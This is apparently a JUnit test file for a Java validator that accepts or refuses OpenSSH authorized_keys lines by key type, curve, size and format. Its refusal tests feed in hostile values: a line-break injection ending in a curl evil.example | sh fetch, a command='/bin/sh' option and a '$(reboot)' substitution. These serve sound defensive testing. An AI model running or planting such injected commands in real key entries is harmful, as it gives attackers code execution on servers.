package pw.fullstack.ephemeral.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What may be written into the nodes' {@code authorized_keys}: one OpenSSH public key per entry, whose
 * key really is a key of the type the line names; anything else is refused with the reason.
 */
class SshAuthorizedKeyTest {

    /** Public keys made with ssh-keygen for this test (their private halves were thrown away). */
    static final String ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGqOwhrGtaBU/3TJnF3m9uK2P+AF4TGSirxIPDRv6kvn test@example";
    static final String ECDSA_P256 = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBGpSuD1x"
            + "XKGtreJi1jX3UcohmTw10c+TJ5ptM6IAdYl8hMEuDebHNYJgwxqIbuadx+r0QpEVxsYFPxczFKSsKkA= test@example";
    static final String ECDSA_P384 = "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBJdjrrbZ"
            + "O6wCP+axeDH3s40M27UEtWLzt6wUwei1o1MQoOzIotiLzdFuWJ2VXODtOuuGUo4ngtNgAqXS0s8iuolUGCUjCQoD1qp8K3+GZ2EiLxUIqVKySk8Y"
            + "mC+4wN0wHA== test@example";
    static final String RSA_3072 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQCymsDxbDpi9RAQqlRo24ka7uZCUwD2MKftRelIOw41T43Xy"
            + "GHd6OGtYGJ8L+JzeWZTQ7bmHpklqEqHo5snf9hBIDZ4SZxS7vRmUsPOeLdGw7dhsNevOLnzqN3jOJe4pB3oVV4gwYxXTiHC90z4OPuay+hdj3tHrNXl"
            + "ZoY/G/DLmEBBCLqQIrSlFwG39kFLgS6YPaQDzXh5zbRSfTVsncCw/DJ+wvYYj+tW3HN6TVWnkV53GV3rTzR+p714w0M2P31ilPWT5DguNC8XazfPBF"
            + "DDwIErBCX/4akl67CQ1f6cxgfeNS+OnEx8wLBy9lg9ZKEZqrmRbVDYhRBnQSWAqSANzY4+SJUWUTEbgsC4PmQD8P1Ihyr4tqbFla59bMe81PFtt5Bol"
            + "fbqXaNfpw/YsDCvngOcAqHoFLg7Bgz1oaVduT0i19ac05axlbxbv4+oOWj4JDoXF/OzN3ZzjLvPRzpSvcxxkwCjrBKKZfHhbIUXPYpChVaQ4Z/w4bFFW"
            + "b3v5j8= test@example";
    static final String RSA_1024 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDG0V/V6Kdn0hErc3NRJqvYD684TI6wl/k9FAy6AEqmYYif+"
            + "XZmJzdC5mcFtuSxegKgNSGeWh6lAxKvLgkB7eBsAOAzMNPXWU9kwrbhgh51IOptEih3yVpGFGt/scQ6oU195WthpLmxBskfeN5oa9QZ5GKKnsW8w6"
            + "FShtN362Vmcw== test@example";
    static final String DSA = "ssh-dss AAAAB3NzaC1kc3MAAACBAKWNaXYPeU0PYGJgDMVLcanVQ7n1OpK398xOC+RLDbMiLJMT6L2OvLKpJW10ILn"
            + "LWNQyCEwAg8Wq4G0SrI4mrD6p5rQLKmhSyNlGOLjAPszL+lyCgBfRcCKxw9ndMowZHoTy7JOgw59P+CsNqVDOjAW359fHE1PRlsnduNcGZugrAAAAF"
            + "QD5D8P1teDotOWMUIGAJFEj5/r4wQAAAIEAhlRPDb8vDwHCq5tWvT8ygr1OBGlWjOSWmMLy/gDdFpJPPN6pgxGo4ofEPAm4LTbcqIkxy9NToPLjvm"
            + "QiiCSt9KTzqwVUe/8sVlQozIcNzFFzjJArgKax2TMF12N2xuK5S5A39VWBuCM45e568YLrDxCzUEVJiH3WBw8GnTSbI+wAAACAZoNFo5iCIGpiW08e"
            + "svWTlCXblsQx6L1X/gNdbGh63usuhsZB5e1ICDiI7WtM+vQrORJeB8Xw5KBYEeriYv5kGuB++A7TsyVug9xMyInsxy2AcXNAPcGY2lU4TtQf3LDmfY"
            + "FHHigbJuaSXtXjGL42Yi3DT+HSG9k/TTOQy+VOxUs= test@example";

    @ParameterizedTest
    @ValueSource(strings = {ED25519, ECDSA_P256, ECDSA_P384, RSA_3072})
    void acceptsTheKeyTypesOpenSshAcceptsAndWritesTheLineBackAsGiven(String line) {
        assertThat(SshAuthorizedKey.parse(line).line()).isEqualTo(line);
    }

    @Test
    void theCommentIsOptionalMayHaveSpacesAndSurroundingBlanksAreDropped() {
        String bare = ED25519.substring(0, ED25519.lastIndexOf(' '));
        assertThat(SshAuthorizedKey.parse(bare).comment()).isEmpty();
        assertThat(SshAuthorizedKey.parse("  " + bare + "\tPedro's laptop (2024)  ").line())
                .isEqualTo(bare + " Pedro's laptop (2024)");
    }

    @Test
    void aSecondLineInOneEntryIsRefused() {
        // The classic: a comment that smuggles a second key, or anything else, onto its own line.
        assertThatThrownBy(() -> SshAuthorizedKey.parse(ED25519 + "\n" + RSA_3072))
                .isInstanceOf(TemplateException.class).hasMessageContaining("line break");
        assertThatThrownBy(() -> SshAuthorizedKey.parse(ED25519 + "\r; curl evil.example | sh"))
                .hasMessageContaining("line break");
    }

    @Test
    void optionsBeforeTheKeyAreRefused() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse("command=\"/bin/sh -c 'id'\" " + ED25519))
                .isInstanceOf(TemplateException.class).hasMessageContaining("is not one of ssh-ed25519");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("from=\"10.0.0.0/8\",no-pty " + ED25519))
                .hasMessageContaining("options such as command= or from= are not accepted");
    }

    @Test
    void unknownAndRetiredKeyTypesAreRefused() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse(DSA)).hasMessageContaining("key type \"ssh-dss\" is not one of");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-foo " + body(ED25519))).hasMessageContaining("\"ssh-foo\"");
    }

    @Test
    void theTypeInsideTheKeyMustBeTheTypeOnTheLine() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-rsa " + body(ED25519)))
                .hasMessageContaining("the line says ssh-rsa but the key inside is \"ssh-ed25519\"");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ecdsa-sha2-nistp384 " + body(ECDSA_P256)))
                .hasMessageContaining("the key inside is \"ecdsa-sha2-nistp256\"");
    }

    @Test
    void anEcdsaKeyWhoseCurveIsNotItsTypesIsRefused() {
        // Named nistp384 inside and out, but carrying a P-256 curve and point.
        byte[] p256 = Base64.getDecoder().decode(body(ECDSA_P256));
        byte[] relabelled = concat(sshString("ecdsa-sha2-nistp384"), Arrays.copyOfRange(p256, 4 + 19, p256.length));
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ecdsa-sha2-nistp384 " + Base64.getEncoder().encodeToString(relabelled)))
                .hasMessageContaining("the curve inside is not the one the type names");
    }

    @Test
    void aKeyThatIsNotBase64OrNotAWholeKeyIsRefused() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519 $(reboot)")).hasMessageContaining("is not base64");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519 AAAA*BBB")).hasMessageContaining("is not base64");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAA"))
                .hasMessageContaining("is not base64");
        byte[] key = Base64.getDecoder().decode(body(ED25519));
        String truncated = Base64.getEncoder().encodeToString(Arrays.copyOf(key, key.length - 4));
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519 " + truncated)).hasMessageContaining("not a valid ssh-ed25519 key");
        String trailing = Base64.getEncoder().encodeToString(concat(key, sshString("x")));
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519 " + trailing)).hasMessageContaining("trailing data");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("ssh-ed25519")).hasMessageContaining("is not an OpenSSH public key line");
        assertThatThrownBy(() -> SshAuthorizedKey.parse("  ")).hasMessageContaining("is empty");
    }

    @Test
    void aWeakRsaKeyIsRefused() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse(RSA_1024)).hasMessageContaining("an RSA key of 1024 bits; at least 2048");
    }

    @Test
    void refusalsQuoteTheLineWithoutItsControlCharacters() {
        assertThatThrownBy(() -> SshAuthorizedKey.parse(ED25519 + "\nssh-rsa x")).hasMessageNotContaining("\n");
    }

    static String body(String line) {
        return line.split(" ")[1];
    }

    private static byte[] sshString(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        return concat(ByteBuffer.allocate(4).putInt(bytes.length).array(), bytes);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }
}
